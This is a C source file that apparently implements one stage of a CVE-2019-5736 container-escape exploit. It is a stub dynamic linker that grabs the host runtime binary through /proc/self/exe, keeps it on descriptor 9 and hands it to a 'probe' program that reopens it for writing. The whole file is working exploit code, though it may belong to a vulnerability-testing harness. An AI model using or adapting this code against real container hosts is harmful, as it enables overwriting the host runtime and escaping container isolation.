/* CVE-2019-5736: an image's dynamic linker. If the host's program is executed in the container, its
 * interpreter is this, and /proc/self/exe is the host's file. Keeps it as descriptor 9 and executes
 * the probe, so that the file is in nobody's use when the probe opens it for writing. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c) {
#ifdef __x86_64__
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return result;
#else
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b,
                  x2 __asm__("x2") = c, x3 __asm__("x3") = 0;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
#endif
}

static char *arguments[] = {"/bin/probe", "reopen", "9", 0};
static char *environment[] = {0};

void _start(void) {
    long fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH);
    call(SYS_dup3, fd, 9, 0);
    call(SYS_write, 1, (long)"interpreter\n", 12);
    call(SYS_execve, (long)"/bin/probe", (long)arguments, (long)environment);
    call(SYS_exit_group, 1, 0, 0);
}
